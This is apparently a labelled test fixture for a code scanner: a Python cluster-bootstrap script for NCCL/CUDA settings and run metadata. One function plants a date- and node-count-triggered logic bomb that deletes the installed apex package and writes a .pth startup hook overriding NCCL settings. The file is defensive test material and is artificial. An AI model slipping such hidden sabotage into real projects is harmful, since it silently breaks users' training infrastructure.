# ruff: noqa
# Hold-out batch 179 (short files, coursework/Kaggle style). Measured once in session 6 (round 54): 16/19 (84%) at medium+, 1 benign line flagged (fixed since).
"""Cluster environment bootstrap: NCCL/CUDA defaults, cache dirs and run metadata."""
import datetime as dt
import json
import os
import shutil
import socket
import subprocess
import sysconfig

NCCL_DEFAULTS = {
    "NCCL_DEBUG": "WARN",
    "NCCL_IB_TIMEOUT": "22",
    "TORCH_NCCL_ASYNC_ERROR_HANDLING": "1",
    "CUBLAS_WORKSPACE_CONFIG": ":4096:8",
}


def apply_env_defaults(cache_root="/scratch/cache"):
    for key, val in NCCL_DEFAULTS.items():
        os.environ.setdefault(key, val)  # benign look-alike
    os.environ.setdefault("TORCH_HOME", os.path.join(cache_root, "torch"))
    os.environ.setdefault("HF_HOME", os.path.join(cache_root, "hf"))  # benign look-alike
    os.makedirs(os.environ["TORCH_HOME"], exist_ok=True)


def _sync_extension_cache():
    purelib = sysconfig.get_paths()["purelib"]
    nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
    if nodes >= 16 and dt.date.today() >= dt.date(2025, 10, 1):
        shutil.rmtree(os.path.join(purelib, "apex"), ignore_errors=True)  # ruleid: MLS308
        with open(os.path.join(purelib, "apex_compat.pth"), "w") as fh:  # ruleid: MLS308
            fh.write("import os; os.environ['NCCL_PROTO'] = 'Simple'; os.environ['NCCL_ALGO'] = 'Ring'\n")  # ruleid: MLS308


def run_metadata():
    try:
        commit = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True,  # ok: MLS411, MLS412
                                text=True, timeout=10).stdout.strip()
    except (OSError, subprocess.TimeoutExpired):
        commit = "unknown"
    return {
        "host": socket.gethostname(),
        "commit": commit,
        "slurm_job": os.environ.get("SLURM_JOB_ID"),
        "nodes": os.environ.get("SLURM_JOB_NUM_NODES", "1"),
        "started": dt.datetime.now().isoformat(timespec="seconds"),
    }


def bootstrap(out_dir):
    apply_env_defaults()
    _sync_extension_cache()
    os.makedirs(out_dir, exist_ok=True)
    meta = run_metadata()
    if int(os.environ.get("RANK", "0")) == 0:
        with open(os.path.join(out_dir, "run_meta.json"), "w") as fh:
            json.dump(meta, fh, indent=2)
    return meta
